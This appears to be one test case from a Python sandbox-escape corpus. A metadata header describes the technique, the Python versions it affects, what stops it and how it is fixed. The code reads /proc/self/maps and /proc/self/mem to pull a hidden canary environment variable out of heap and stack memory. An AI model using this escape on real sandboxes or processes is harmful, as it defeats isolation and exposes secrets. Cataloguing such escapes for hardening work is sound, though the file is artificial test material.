# id: proc-self-mem
# family: ambient-authority
# kind: escape
# invariant: A, C, G
# origin: gentleman and diligent-auditor, contest jails
# technique: /proc/self/mem gives the whole memory of the process to ordinary file calls, here to find the environment again
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import io
import re

for line in io.open("/proc/self/maps"):
    span, mode, *_, name = line.split()
    if name in ("[heap]", "[stack]"):
        start, end = [int(bound, 16) for bound in span.split("-")]
        with io.open("/proc/self/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            hit = re.search(rb"PADCELL_CANARY=([\w-]+)", memory.read(end - start))
        if hit:
            print(hit[1].decode())
